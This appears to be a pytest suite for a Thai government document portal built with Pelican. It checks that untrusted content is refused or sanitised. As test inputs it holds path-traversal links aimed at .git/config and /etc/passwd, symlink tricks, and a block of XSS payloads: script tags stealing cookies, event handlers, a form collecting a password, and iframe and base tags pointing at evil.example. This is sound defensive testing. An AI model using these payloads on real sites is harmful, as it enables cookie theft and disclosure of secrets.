"""Content is untrusted: what a hostile or careless commit tries, and what the build does.

Each test is an attack or a mistake from issue 16: it either fails the build
with a file:line message (no traceback, the site online untouched) or builds a
site that carries none of the hostile content.
"""

import csv
import io
import json
import os

import pytest
from conftest import announcement, built_then_failed, document
from pelican import signals

from portal import safe_html

GOOD = {"documents/good.md": announcement(slug="announcement-2568-099")}
SECRET = "TOKEN-ghp-0000-secret"


def every_file_holding(folder, text):
    """Files under ``folder`` whose bytes contain ``text``."""
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*")
                  if p.is_file() and not p.is_symlink() and text.encode() in p.read_bytes())


@pytest.fixture
def secret(site):
    """A file beside content/, as a checkout's .git/config is: it must never be published."""
    parent = site.content.parent
    (parent / ".git").mkdir()
    (parent / ".git" / "config").write_text(f"[remote]\n  token = {SECRET}\n")
    (parent / "secret.txt").write_text(SECRET)
    return parent


# ------------------------------------------------------------ 1. files of the build machine


@pytest.mark.parametrize("link", [
    "{attach}/../.git/config",
    "{attach}../../.git/config",
    "{attach}/../secret.txt",
    "{static}/../secret.txt",
    "{filename}/../secret.txt",
    "../../secret.txt",
    "{attach}/../../../../../../../../../../etc/passwd",
])
def test_a_link_cannot_publish_a_file_outside_content(site, secret, link):
    body = f"ดูไฟล์ [นี้]({link})"
    result = built_then_failed(site, GOOD, {"documents/a.md": announcement(slug="a-1", body=body)})
    assert f'documents/a.md:8: ลิงก์ "{link}" ใช้ไม่ได้:' in result.message, result.message
    assert "ชี้ออกนอกโฟลเดอร์" in result.message
    assert every_file_holding(secret, SECRET) == [".git/config", "secret.txt"]
    assert not any(every_file_holding(secret, "root:x:0:0"))


def test_an_attach_link_stays_in_the_document_folder(site):
    site.add(GOOD)
    site.add({"documents/2568/a/a.md": announcement(slug="a-1", body="[ผัง]({attach}../b/ผัง.pdf)"),
              "documents/2568/b/ผัง.pdf": b"%PDF-1.4"})
    result = site.build()
    assert not result.ok
    assert ('documents/2568/a/a.md:8: ลิงก์ "{attach}../b/ผัง.pdf" ใช้ไม่ได้: "../b/ผัง.pdf" '
            "ชี้ออกนอกโฟลเดอร์ของเอกสาร") in result.message, result.message


def test_files_beside_the_document_are_still_published(site):
    site.add({"documents/2568/a.md": announcement(
        slug="a-1", body="[ผัง]({attach}ผัง.pdf) [แบบ](แบบ.pdf) [ภาพ]({static}/images/ตรา.png)"),
        "documents/2568/ผัง.pdf": b"%PDF-1.4 a", "documents/2568/แบบ.pdf": b"%PDF-1.4 b",
        "images/ตรา.png": b"\x89PNG\r\n\x1a\n"})
    result = site.build()
    assert result.ok, result.message
    assert (site.output / "documents/a-1/ผัง.pdf").read_bytes() == b"%PDF-1.4 a"
    assert (site.output / "documents/a-1/แบบ.pdf").read_bytes() == b"%PDF-1.4 b"
    assert (site.output / "images/ตรา.png").exists()


def test_a_table_file_must_be_in_the_document_folder(site, secret):
    (secret / "t.table.yaml").write_text(
        f"id: t\ncaption: ลับ\ncolumns:\n  - {{key: a, label: ก}}\nrows:\n  - {{a: {SECRET}}}\n")
    result = built_then_failed(site, GOOD, {"documents/a.md": announcement(
        slug="a-1", body="ย่อหน้า\n\n::: table ../../t.table.yaml")})
    assert ('documents/a.md:10: ไฟล์ตาราง: "../../t.table.yaml" ชี้ออกนอกโฟลเดอร์ของเอกสาร'
            in result.message), result.message


def test_a_table_file_that_is_a_symbolic_link_is_refused(site, secret):
    (secret / "t.table.yaml").write_text(
        f"id: t\ncaption: ลับ\ncolumns:\n  - {{key: a, label: ก}}\nrows:\n  - {{a: {SECRET}}}\n")
    site.add(GOOD)
    assert site.build().ok
    site.add({"documents/a.md": announcement(slug="a-1", body="::: table t.table.yaml")})
    os.symlink(secret / "t.table.yaml", site.content / "documents" / "t.table.yaml")
    result = site.build()
    assert not result.ok
    assert 'documents/a.md:8: ไฟล์ตาราง: "t.table.yaml" เป็นทางลัด (symbolic link)' \
        in result.message, result.message
    assert every_file_holding(site.output, SECRET) == []


@pytest.mark.parametrize("name", ["ฉบับเว็บ.html", "ตรา.svg", "steal.js", "scan.php.pdf", "run.phtml",
                                  "ไม่มีนามสกุล"])
def test_a_file_a_browser_or_server_would_run_is_never_published(site, name):
    result = built_then_failed(site, GOOD, {
        "documents/a.md": announcement(slug="a-1", attachments=f"\n  - file: {name}\n    title: ก",
                                       body=f"[ไฟล์](<{name}>) [แนบ]({{attach}}{name})"),
        f"documents/{name}": "<script>alert(1)</script>"})
    assert f'documents/a.md:7: ช่อง attachments (ไฟล์แนบ): "{name}"' in result.message, \
        result.message
    assert f'documents/a.md:11: ลิงก์ "{name}" ใช้ไม่ได้: "{name}"' in result.message
    assert f'documents/a.md:11: ลิงก์ "{{attach}}{name}" ใช้ไม่ได้' in result.message
    assert "ไม่เผยแพร่" in result.message


def test_a_page_in_the_static_folder_is_not_published(site):
    result = built_then_failed(site, GOOD, {"images/evil.html": "<script>alert(1)</script>",
                                            "images/ตรา.png": b"\x89PNG\r\n\x1a\n"})
    assert 'images/evil.html:1: "images/evil.html" เป็นไฟล์ชนิด .html' in result.message, \
        result.message


# ------------------------------------------------------------ 2. symbolic links


def test_an_attachment_that_is_a_symbolic_link_is_refused(site, secret):
    site.add(GOOD)
    assert site.build().ok
    site.add({"documents/a.md": announcement(
        slug="a-1", attachments="\n  - file: scan.pdf\n    title: ฉบับสแกน")})
    os.symlink(secret / ".git" / "config", site.content / "documents" / "scan.pdf")
    result = site.build()
    assert not result.ok
    assert ('documents/a.md:7: ช่อง attachments (ไฟล์แนบ): "scan.pdf" เป็นทางลัด (symbolic link)'
            in result.message), result.message
    assert every_file_holding(secret, SECRET) == [".git/config", "secret.txt"]


def test_a_linked_folder_is_neither_read_nor_published(site, secret):
    outside = secret / "elsewhere"
    outside.mkdir()
    (outside / "b.md").write_text(announcement(slug="b-1", body=SECRET), encoding="utf-8")
    (outside / "ผัง.pdf").write_text(SECRET)
    site.add(GOOD)
    assert site.build().ok
    os.symlink(outside, site.content / "documents" / "linked")
    os.symlink(outside, site.content / "images")
    result = site.build()
    assert not result.ok
    assert "documents/linked:1: ไฟล์นี้เป็นทางลัด (symbolic link)" in result.message, result.message
    assert "images:1: ไฟล์นี้เป็นทางลัด (symbolic link)" in result.message
    assert every_file_holding(site.output, SECRET) == []


def test_a_folder_that_links_to_itself_ends_in_a_message(site):
    site.add(GOOD)
    os.symlink(".", site.content / "documents" / "loop")
    result = site.build()
    assert not result.ok
    assert "documents/loop:1: ไฟล์นี้เป็นทางลัด (symbolic link)" in result.message


def test_a_pipe_in_content_does_not_hang_the_build(site):
    site.add(GOOD)
    (site.content / "images").mkdir()
    os.mkfifo(site.content / "images" / "ภาพ.png")
    result = site.build()
    assert not result.ok
    assert "images/ภาพ.png:1: ไฟล์นี้ไม่ใช่ไฟล์ธรรมดา" in result.message, result.message


# ------------------------------------------------------------ 3. raw HTML


HOSTILE_BODY = """\
<script>alert(document.cookie)</script>

<script src="steal.js"></script>

<p onclick="steal()">ย่อหน้าที่มีตัวจัดการเหตุการณ์</p>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<iframe src="https://evil.example/"></iframe>

<form action="https://evil.example/"><input name="password"></form>

<base href="https://evil.example/">

[คลิก](javascript:alert(1)) <a href="JaVaScRiPt:alert(2)">ลิงก์</a>

## หัวข้อ {onmouseover="alert(3)"}

ข้อความ <u>ขีดเส้นใต้</u> H<sub>2</sub>O 10<sup>3</sup><br>บรรทัดใหม่
"""


def test_raw_html_that_could_harm_visitors_is_removed_and_the_clerk_told(site):
    site.add({"documents/a.md": announcement(slug="a-1", body=HOSTILE_BODY),
              "documents/steal.js": "alert(1)"})
    result = site.build()
    assert result.ok, result.message
    page = site.read("documents/a-1/index.html")
    body = page.split('<div class="doc-body">')[1].split("</article>")[0]
    for hostile in ("<script", "onclick", "onmouseover", "javascript", "JaVaScRiPt", "<iframe",
                    "<meta", "evil.example", "<form", "<input", "<base", "steal"):
        assert hostile not in body, hostile
    assert "<u>ขีดเส้นใต้</u> H<sub>2</sub>O 10<sup>3</sup><br>บรรทัดใหม่" in body
    assert "ย่อหน้าที่มีตัวจัดการเหตุการณ์" in body
    assert not (site.output / "documents/a-1/steal.js").exists()
    warnings = result.message
    assert "documents/a.md:8: คำเตือน (warning): ลบแท็ก <script> ออกจากเนื้อหา" in warnings, warnings
    assert "documents/a.md:12: คำเตือน (warning): ลบแอตทริบิวต์ onclick ของแท็ก <p> ออก" in warnings
    assert "documents/a.md:14: คำเตือน (warning): ลบแท็ก <meta> ออก" in warnings
    assert "documents/a.md:16: คำเตือน (warning): ลบแท็ก <iframe> ออก" in warnings
    assert "documents/a.md:18: คำเตือน (warning): ลบแท็ก <form> ออก" in warnings
    assert "documents/a.md:20: คำเตือน (warning): ลบแท็ก <base> ออก" in warnings
    assert 'documents/a.md:22: คำเตือน (warning): ลบลิงก์ "javascript:alert(1)" ออก' in warnings
    assert "แอตทริบิวต์ onmouseover ของแท็ก <h2>" in warnings


def test_an_image_from_another_host_is_removed(site):
    # A visitor's browser would ask that host for it: a tracker, and a request
    # the site promises not to make.
    site.add({"documents/a.md": announcement(
        slug="a-1", body="![ตรา](https://tracker.example/p.png)\n\n"
                         '<img src="//tracker.example/q.png" alt="ตรา">\n\n'
                         "[เว็บไซต์กรม](https://www.dla.go.th/)")})
    result = site.build()
    assert result.ok, result.message
    page = site.read("documents/a-1/index.html")
    assert "tracker.example" not in page
    assert '<a href="https://www.dla.go.th/">เว็บไซต์กรม</a>' in page  # links elsewhere stay
    assert ('documents/a.md:8: คำเตือน (warning): ลบภาพที่โหลดจากเว็บไซต์อื่น '
            '"https://tracker.example/p.png"') in result.message, result.message
    assert 'documents/a.md:10: คำเตือน (warning): ลบภาพที่โหลดจากเว็บไซต์อื่น ' \
        '"//tracker.example/q.png"' in result.message


TABLE = """\
id: t1
caption: เงื่อนไขการจ่ายเงิน
columns:
  - {key: rule, label: เงื่อนไข}
  - {key: note, label: หมายเหตุ}
rows:
  - rule: "เงื่อนไข x<y และ y>z"
    note: "<u>สำคัญ</u>"
  - rule: "<script>alert(1)</script>ข้อ ๒"
    note: "<b onclick=\\"steal()\\">ตัวหนา</b> [ดู](javascript:alert(1))"
"""


def test_raw_html_in_a_table_is_removed_and_text_with_angle_brackets_kept(site):
    site.add({"documents/a.md": announcement(slug="a-1", body="::: table t1.table.yaml"),
              "documents/t1.table.yaml": TABLE})
    result = site.build()
    assert result.ok, result.message
    page = site.read("documents/a-1/index.html")
    table = page.split('<table class="data-table">')[1].split("</table>")[0]
    assert "เงื่อนไข x&lt;y และ y&gt;z" in table
    assert "<u>สำคัญ</u>" in table
    assert "<b>ตัวหนา</b>" in table
    for hostile in ("<script", "onclick", "javascript", "alert"):
        assert hostile not in table, hostile
    rows = list(csv.reader(io.StringIO(
        (site.output / "documents/a-1/t1.csv").read_text(encoding="utf-8-sig"))))
    assert rows[1][0] == "เงื่อนไข x<y และ y>z"
    assert rows[2][0] == "ข้อ ๒".replace("๒", "2")
    exported = json.loads((site.output / "documents/a-1/t1.json").read_text(encoding="utf-8"))
    assert exported["rows"][0]["rule"] == "เงื่อนไข x<y และ y>z"
    assert "documents/t1.table.yaml:9: คำเตือน (warning): ลบแท็ก <script> ออกจากตาราง" \
        in result.message, result.message
    assert "documents/t1.table.yaml:10: คำเตือน (warning): ลบแอตทริบิวต์ onclick" in result.message
    assert 'documents/t1.table.yaml:10: คำเตือน (warning): ลบลิงก์ "javascript:alert(1)"' \
        in result.message


def test_angle_brackets_in_a_body_are_text(site):
    site.add({"documents/a.md": announcement(
        slug="a-1", body="เงื่อนไข x<y และ y>z ใช้กับ <u>ทุกโครงการ</u>")})
    result = site.build()
    assert result.ok, result.message
    assert "<p>เงื่อนไข x&lt;y และ y&gt;z ใช้กับ <u>ทุกโครงการ</u></p>" in \
        site.read("documents/a-1/index.html")


# ------------------------------------------------------------ 7. names that need encoding


def test_attachment_names_that_need_encoding_get_valid_links(site):
    names = ["ผลงาน100%.pdf", "a#b.pdf", "a?b.pdf", "แผน 2568.pdf"]
    attachments = "".join(f"\n  - file: \"{name}\"\n    title: ไฟล์ {n}"
                          for n, name in enumerate(names))
    files = {f"documents/{name}": b"%PDF-1.4" for name in names}
    site.add({"documents/a.md": announcement(slug="a-1", attachments=attachments,
                                             body="[ผลงาน](ผลงาน100%.pdf)"), **files})
    result = site.build()
    assert result.ok, result.message
    page = site.read("documents/a-1/index.html")
    for href in ("ผลงาน100%25.pdf", "a%23b.pdf", "a%3Fb.pdf", "แผน%202568.pdf"):
        assert f'<a href="{href}">' in page, href
    assert 'href="ผลงาน100%.pdf"' not in page


def test_a_link_with_a_bare_percent_sign_is_reported(site):
    # Pelican writes an {attach} link's address without encoding it.
    result = built_then_failed(site, GOOD, {
        "documents/a.md": announcement(slug="a-1", body="[ผลงาน]({attach}ผลงาน100%.pdf)"),
        "documents/ผลงาน100%.pdf": b"%PDF-1.4"})
    assert "documents/a.md:8: ลิงก์เสีย" in result.message, result.message
    assert "invalid % in the address" in result.message


# ------------------------------------------------------------ 8. every error in one run


def test_link_errors_come_with_front_matter_errors_in_one_run(site):
    result = built_then_failed(site, GOOD, {
        "documents/a.md": announcement(slug="a-1", body="ดู [ฉบับเดิม](../no-such-doc/)"),
        "documents/b.md": announcement(slug="b-1", date="31 กันยายน 2568"),
        "documents/c.md": announcement(slug="c-1", body="ดู [ข้อ ๒](#ข้อ-๒)"),
        "documents/d.md": announcement(slug="d-1", attachments="\n  - file: t1.csv\n"
                                                               "    title: ตารางเดิม",
                                       body="::: table t1.table.yaml"),
        "documents/t1.csv": "a\n",
        "documents/t1.table.yaml": "id: t1\ncaption: ก\ncolumns:\n  - {key: a, label: ก}\n"
                                   "rows:\n  - {a: ข}\n",
    })
    message = result.message
    assert "documents/b.md:5: ช่อง date (วันที่ออกเอกสาร): วันที่ 31 กันยายน 2568 ไม่มีจริง" in message
    assert 'documents/a.md:8: ลิงก์เสีย "../no-such-doc/"' in message, message
    assert 'documents/c.md:8: ลิงก์เสีย "#ข้อ-๒": ไม่มีตำแหน่ง' in message
    assert "documents/d.md:11: ไฟล์ส่งออกของตาราง t1.table.yaml เขียนไฟล์ documents/d-1/t1.csv " \
        "ซ้ำกับ ไฟล์ t1.csv ของเอกสาร" in message, message
    assert "พบข้อผิดพลาด 4 รายการ" in message


def test_a_link_to_a_document_with_an_error_is_not_reported_twice(site):
    result = built_then_failed(site, GOOD, {
        "documents/a.md": announcement(slug="a-1", body="ดู [ฉบับแก้ไข](../b-1/)"),
        "documents/b.md": announcement(slug="b-1", date="31 กันยายน 2568"),
    })
    assert "ลิงก์เสีย" not in result.message, result.message
    assert "พบข้อผิดพลาด 1 รายการ" in result.message


# ------------------------------------------------------------ 9. links read by a real parser


def test_links_are_found_whatever_their_attributes_hold(site):
    body = ('<a title="1>0" href="../no-such-doc/">ก</a> <a href=../no-such-other/>ข</a>\n'
            "<a\nhref='../no-such-third/'>ค</a>")
    result = built_then_failed(site, GOOD, {"documents/a.md": announcement(slug="a-1", body=body)})
    for target in ("../no-such-doc/", "../no-such-other/", "../no-such-third/"):
        assert f'ลิงก์เสีย "{target}"' in result.message, (target, result.message)


def test_a_page_is_scanned_as_a_browser_reads_it():
    page = safe_html.scan_page(
        '<a title="1>0" href="../a/">x</a><a href=../b/>y</a><img src=c.png>'
        '<p id="x"></p><h2 id="x"></h2><!-- <a href="../commented/"> -->'
        '<code>&lt;a href="../code/"&gt;</code><a name="old"></a>')
    assert page.links == ["../a/", "../b/", "c.png"]
    assert page.ids == {"x", "old"}
    assert page.duplicate_ids == ["x"]


# ------------------------------------------------------------ 11. no traceback


def failed_with(site, files, signal, receiver):
    """A good site, then ``files`` added and built with ``receiver`` on ``signal``."""
    site.add(GOOD)
    assert site.build().ok
    before = site.read("documents/announcement-2568-099/index.html")
    site.add(files)
    signal.connect(receiver)
    try:
        result = site.build()
    finally:
        signal.disconnect(receiver)
    assert not result.ok
    assert "Traceback" not in result.message
    assert site.read("documents/announcement-2568-099/index.html") == before
    return result


def test_an_attachment_deleted_during_the_build_is_a_message(site):
    def delete_attachment(generator):
        os.remove(site.content / "documents" / "scan.pdf")

    result = failed_with(site, {
        "documents/scan.pdf": b"%PDF-1.4",
        "documents/a.md": announcement(slug="a-1",
                                       attachments="\n  - file: scan.pdf\n    title: ฉบับสแกน")},
        signals.article_generator_finalized, delete_attachment)
    assert "documents/a.md:7: ไฟล์ scan.pdf หายไประหว่างสร้างเว็บไซต์" in result.message, \
        result.message


def test_a_static_file_that_cannot_be_copied_fails_the_build(site):
    def delete_image(generator):
        os.remove(site.content / "images" / "ตรา.png")

    result = failed_with(site, {"images/ตรา.png": b"\x89PNG\r\n\x1a\n"},
                         signals.static_generator_finalized, delete_image)
    assert "images/ตรา.png:1: คัดลอกไฟล์นี้ไปไว้ที่ images/ตรา.png ไม่สำเร็จ" in result.message, \
        result.message


def test_a_search_index_that_fails_is_a_message(site, monkeypatch):
    from portal import search

    site.add(GOOD)
    assert site.build().ok
    before = site.read("documents/announcement-2568-099/index.html")
    monkeypatch.setattr(search.sys, "executable", "/bin/false")  # Pagefind cannot run
    result = site.build()
    assert not result.ok
    assert "pagefind:1: สร้างดัชนีค้นหาไม่สำเร็จ (Pagefind failed, exit code 1)" in result.message, \
        result.message
    assert "Traceback" not in result.message
    assert site.read("documents/announcement-2568-099/index.html") == before


# ------------------------------------------------------------ 13. smaller ones


def test_a_hidden_file_is_never_an_attachment(site):
    result = built_then_failed(site, GOOD, {
        "documents/a.md": announcement(slug="a-1", attachments="\n  - file: .env\n    title: ค่า"),
        "documents/.env": f"TOKEN={SECRET}"})
    assert ('documents/a.md:7: ช่อง attachments (ไฟล์แนบ): ".env" เป็นไฟล์หรืออยู่ในโฟลเดอร์'
            "ที่ชื่อขึ้นต้นด้วยจุด") in result.message, result.message


def test_hidden_files_in_content_are_not_published(site):
    site.add({**GOOD, "images/.htaccess": "Deny from all", "images/.git/config": SECRET,
              "images/ตรา.png": b"\x89PNG\r\n\x1a\n"})
    result = site.build()
    assert result.ok, result.message
    assert (site.output / "images/ตรา.png").exists()
    assert not (site.output / "images/.htaccess").exists()
    assert every_file_holding(site.output, SECRET) == []


@pytest.mark.parametrize("source, line", [
    ("## ไฟล์แนบ {#attachments}\n\nข้อความ", 11),
    ("ย่อหน้า\n\n## เนื้อหา {#main}", 13),
])
def test_an_id_the_theme_uses_cannot_be_taken_by_a_heading(site, source, line):
    result = built_then_failed(site, GOOD, {"documents/a.md": announcement(
        slug="a-1", attachments="\n  - file: ก.pdf\n    title: ก", body=source),
        "documents/ก.pdf": b"%PDF-1.4"})
    assert f"documents/a.md:{line}: จุดอ้างอิง (id) " in result.message, result.message
    assert "มีซ้ำกันในหน้า documents/a-1/index.html" in result.message


def test_a_table_id_the_theme_uses_is_reported(site):
    table = "id: main\ncaption: ตาราง\ncolumns:\n  - {key: a, label: ก}\nrows:\n  - {a: ข}\n"
    result = built_then_failed(site, GOOD, {
        "documents/a.md": announcement(slug="a-1", body="::: table main.table.yaml"),
        "documents/main.table.yaml": table})
    assert 'จุดอ้างอิง (id) "main" มีซ้ำกันในหน้า documents/a-1/index.html' in result.message, \
        result.message


def test_a_nul_byte_in_the_body_is_reported(site):
    result = built_then_failed(site, GOOD, {
        "documents/a.md": announcement(slug="a-1", body="ย่อหน้า\n\nข้อ\x00ความ")})
    assert "documents/a.md:10: มีอักขระควบคุมที่มองไม่เห็น (รหัส U+0000)" in result.message


@pytest.mark.parametrize("slug, system", [
    ("pagefind", "ดัชนีค้นหา"),
    ("search", "หน้าค้นหา"),
    ("ita", "หน้า ITA"),
    ("documents", "หน้ารวมเอกสาร"),
    ("feeds", "ฟีดประกาศ"),
    ("theme", "ไฟล์ของธีม"),
    ("drafts", "หน้าฉบับร่าง"),
])
def test_a_page_may_not_take_an_address_of_the_system(site, slug, system):
    result = built_then_failed(site, GOOD, {
        "pages/p.md": document(title="หน้าของเรา", type="page", slug=slug)})
    assert (f'pages/p.md:4: ชื่อในลิงก์ "{slug}" ทำให้ลิงก์ {slug}/ ซ้ำกับ{system}ที่ระบบสร้าง'
            in result.message), result.message
    assert "แจ้งผู้ดูแลระบบ" not in result.message  # the clerk's to fix, no plugin bug
    assert "พบข้อผิดพลาด 1 รายการ" in result.message


@pytest.mark.parametrize("slug", ["type", "year", "division"])
def test_a_document_may_not_take_a_listing_address(site, slug):
    result = built_then_failed(site, GOOD, {"documents/a.md": announcement(slug=slug)})
    assert f'documents/a.md:4: ชื่อในลิงก์ "{slug}" ทำให้ลิงก์ documents/{slug}/ ซ้ำกับ' \
        in result.message, result.message


# ------------------------------------------------------------ 12. look-alike text


def test_a_division_typed_three_ways_is_one_listing(site):
    spellings = ["สำนักปลัด", "ส\u0e4d\u0e32นักปลัด", "สำนัก\u200bปลัด"]
    site.add({f"documents/{n}.md": announcement(slug=f"a-{n}", division=spelling)
              for n, spelling in enumerate(spellings)})
    result = site.build()
    assert result.ok, result.message
    overview = site.read("documents/index.html")
    assert overview.count(">สำนักปลัด<") == 1, overview
    divisions = sorted(p.name for p in (site.output / "documents" / "division").iterdir())
    assert len(divisions) == 1
    listing = site.read(f"documents/division/{divisions[0]}/index.html")
    for n in range(3):
        assert f"documents/a-{n}/" in listing
    for n in (1, 2):
        assert (f"documents/{n}.md:6: คำเตือน (warning): ข้อความ \"สำนักปลัด\" มีอักขระที่พิมพ์ต่างจากปกติ"
                in result.message), result.message
    assert "documents/0.md" not in result.message


def test_a_title_of_invisible_characters_only_is_refused(site):
    result = built_then_failed(site, GOOD, {
        "documents/a.md": announcement(slug="a-1", title="\"\u200b\u2060\"")})
    assert "documents/a.md:2: ช่อง title (ชื่อเรื่อง) ว่างเปล่า" in result.message, result.message
